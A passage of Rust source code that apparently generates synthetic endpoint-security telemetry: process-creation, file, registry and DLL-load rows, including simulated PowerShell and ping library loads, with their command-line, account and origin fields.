    table: DevTable,
    seq: &mut u64,
    recipes: &[Recipe],
    stream: &str,
) {
    if !matches!(
        table,
        DevTable::Process | DevTable::File | DevTable::Registry | DevTable::ImageLoad
    ) {
        return;
    }
    let w = g.w;
    let mut rows: Vec<(i64, usize, usize)> = Vec::new(); // (time, instance, item)
    let plan = plan(w, ctx, dev, recipes, stream);
    for (ii, inst) in plan.iter().enumerate() {
        match table {
            DevTable::Process => {
                for (k, p) in inst.procs.iter().enumerate() {
                    rows.push((p.proc.created, ii, k));
                }
            }
            _ => {
                for (k, (ts, si, _, _)) in inst.side.iter().enumerate() {
                    let rec = recipes.get(inst.recipe);
                    let kind = rec.and_then(|r| r.side.get(*si));
                    let want = matches!(
                        (table, kind),
                        (DevTable::File, Some(Side::File { .. }))
                            | (DevTable::Registry, Some(Side::Reg { .. }))
                            | (DevTable::ImageLoad, Some(Side::Load { .. }))
                    );
                    if want {
                        rows.push((*ts, ii, k));
                    }
                }
                if table == DevTable::ImageLoad {
                    // PowerShell loads its engine and AMSI; ping its helper library.
                    for (k, p) in inst.procs.iter().enumerate() {
                        if matches!(p.proc.img, Img::PowerShell | Img::Pwsh | Img::Ping) {
                            rows.push((p.proc.created + 40_000_000, ii, 1_000 + k));
                        }
                    }
                }
            }
        }
    }
    rows.sort_unstable();
    for (t, ii, k) in rows {
        if !ctx.in_window(t) {
            continue;
        }
        let Some(inst) = plan.get(ii) else {
            continue;
        };
        let by_step = |by: u8| -> &Proc {
            if by == 0 {
                &inst.root
            } else {
                inst.procs
                    .get(usize::from(by) - 1)
                    .map_or(&inst.root, |p| &p.proc)
            }
        };
        match table {
            DevTable::Process => {
                let Some(p) = inst.procs.get(k) else {
                    continue;
                };
                let parent = match recipes
                    .get(inst.recipe)
                    .and_then(|r| r.steps.get(k))
                    .map_or(0, |s| s.up)
                {
                    0 => &inst.root,
                    up => by_step(up),
                };
                write_proc(s, w, ctx, dev, t, seq, parent, &p.proc);
            }
            DevTable::ImageLoad if k >= 1_000 => {
                let Some(p) = inst.procs.get(k - 1_000) else {
                    continue;
                };
                let dlls: &[Img] = match p.proc.img {
                    Img::PowerShell => &[Img::SmaNi, Img::Amsi, Img::Clr],
                    Img::Pwsh => &[Img::SmaDll, Img::Amsi],
                    _ => &[Img::Iphlpapi],
                };
                for (i, dll) in dlls.iter().enumerate() {
                    let ti = t + i as i64 * 3_000_000;
                    if ctx.in_window(ti) {
                        write_load(s, w, ctx, dev, ti, seq, &p.proc, *dll);
                    }
                }
            }
            _ => {
                let Some((_, si, x, y)) = inst.side.get(k) else {
                    continue;
                };
                let Some(sd) = recipes.get(inst.recipe).and_then(|r| r.side.get(*si)) else {
                    continue;
                };
                match sd {
                    Side::File {
                        by,
                        action,
                        origin,
                        referrer,
                        size,
                        ..
                    } => {
                        let p = by_step(*by);
                        write_file(
                            g, s, ctx, dev, t, seq, p, action, x, origin, referrer, *size,
                        );
                    }
                    Side::Reg {
                        by,
                        action,
                        name,
                        vtype,
                        ..
                    } => {
                        let p = by_step(*by);
                        write_reg(s, w, ctx, dev, t, seq, p, action, x, name, vtype, y);
                    }
                    Side::Load { by, dll } => {
                        let p = by_step(*by);
                        write_load(s, w, ctx, dev, t, seq, p, *dll);
                    }
                }
            }
        }
    }
}

/// A `ProcessCreated` row; a process started from a user's download folder reports that
/// folder.
#[allow(clippy::too_many_arguments)]
fn write_proc(
    s: &mut Sink,
    w: &World,
    ctx: &Ctx,
    dev: &Device,
    t: i64,
    seq: &mut u64,
    parent: &Proc,
    child: &Proc,
) {
    let c = s.c;
    head(s, dev, t, report_id(ctx.day, ctx.dev, *seq));
    *seq += 1;
    s.s(c.ActionType, "ProcessCreated");
    if let Some(path) = child.cmd.split('"').nth(1)
        && path.contains("\\Users\\")
        && path
            .to_ascii_lowercase()
            .ends_with(&w.image(child.img).def.name.to_ascii_lowercase())
    {
        s.s(c.FolderPath, path);
    }
    file_of(s, w, child.img);
    version_info(s, w, child.img);
    s.l(c.ProcessId, child.pid);
    s.s(c.ProcessCommandLine, &child.cmd);
    s.s(c.ProcessIntegrityLevel, child.integrity);
    s.s(c.ProcessTokenElevation, child.elevation);
    s.t(c.ProcessCreationTime, child.created);
    let (dom, name, sid, upn, oid) = account(w, child.acct);
    s.s(c.AccountDomain, dom);
    s.s(c.AccountName, name);
    s.s(c.AccountSid, sid);
    s.so(c.AccountUpn, upn);
    s.so(c.AccountObjectId, oid);
    s.l(c.LogonId, child.logon_id);
    initiating(s, w, parent);
    s.end();
}

#[allow(clippy::too_many_arguments)]
fn write_file(
    g: &mut Gen,
    s: &mut Sink,
    ctx: &Ctx,
    dev: &Device,
    t: i64,
    seq: &mut u64,
    p: &Proc,
    action: &str,
    path: &str,
    origin: &str,
    referrer: &str,
    size: i64,
) {
    let w = g.w;
    let c = s.c;
    head(s, dev, t, report_id(ctx.day, ctx.dev, *seq));
    *seq += 1;
    s.s(c.ActionType, action);
    let name = path.rsplit('\\').next().unwrap_or(path);
    s.s(c.FileName, name);
    s.s(c.FolderPath, path);
    g.write_hashes(s, name, true);
    s.l(c.FileSize, size);
    s.so(c.FileOriginUrl, origin);
    s.so(c.FileOriginReferrerUrl, referrer);
    initiating(s, w, p);
    s.end();
}

#[allow(clippy::too_many_arguments)]
fn write_reg(
    s: &mut Sink,
    w: &World,
    ctx: &Ctx,
    dev: &Device,
    t: i64,
    seq: &mut u64,
    p: &Proc,
    action: &str,
    key: &str,
    name: &str,
    vtype: &str,
    data: &str,
) {
    let c = s.c;
    head(s, dev, t, report_id(ctx.day, ctx.dev, *seq));
    *seq += 1;
    s.s(c.ActionType, action);
    s.s(c.RegistryKey, key);
    s.s(c.RegistryValueName, name);
    s.s(c.RegistryValueType, vtype);
    s.s(c.RegistryValueData, data);
    initiating(s, w, p);
    s.end();
}

#[allow(clippy::too_many_arguments)]
fn write_load(
    s: &mut Sink,
    w: &World,
    ctx: &Ctx,
    dev: &Device,
    t: i64,
    seq: &mut u64,
    p: &Proc,
    dll: Img,
) {
    let c = s.c;
    head(s, dev, t, report_id(ctx.day, ctx.dev, *seq));
    *seq += 1;
    s.s(c.ActionType, "ImageLoaded");
    file_of(s, w, dll);
    initiating(s, w, p);
    s.end();
}
